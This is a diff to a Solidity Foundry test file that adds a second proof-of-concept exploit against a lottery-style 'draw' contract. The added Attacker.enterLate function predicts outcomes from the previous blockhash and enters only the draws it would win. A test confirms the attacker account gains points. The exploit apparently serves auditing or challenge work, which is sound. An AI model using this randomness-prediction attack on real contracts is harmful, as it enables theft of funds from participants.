@@ -101,7 +101,7 @@ contract Proof {
         vm.startPrank(ANA);
         vm.expectRevert("!room");
         draw.enter(1);
-        vm.roll(START + 21);
+        vm.roll(START + 20 + 251);
         vm.expectRevert("!open");
         draw.enter(2);
         vm.stopPrank();
@@ -137,6 +137,16 @@ contract Proof {
         require(points.balanceOf(address(mallory)) >= 6_100 ether, "nothing gained");
     }
 
+    function exploit2() public {
+        vm.roll(START + 21);
+        mallory.enterLate();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(points.balanceOf(address(mallory)) >= 2_600 ether, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(draw);
     }
@@ -159,6 +169,19 @@ contract Attacker {
     function enter() external {
         for (uint256 id = 1; id <= 6; id++) {
             draw.enter(id);
+        }
+    }
+
+    // enters those draws that one of its late entries wins, and settles them
+    function enterLate() external {
+        for (uint256 id = 1; id <= 6; id++) {
+            uint256 seed = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id)));
+            for (uint256 count = 1; count <= 6; count++) {
+                if (seed % (10 + count) < 10) continue;
+                for (uint256 i = 0; i < count; i++) draw.enter(id);
+                draw.settle(id);
+                break;
+            }
         }
     }
 
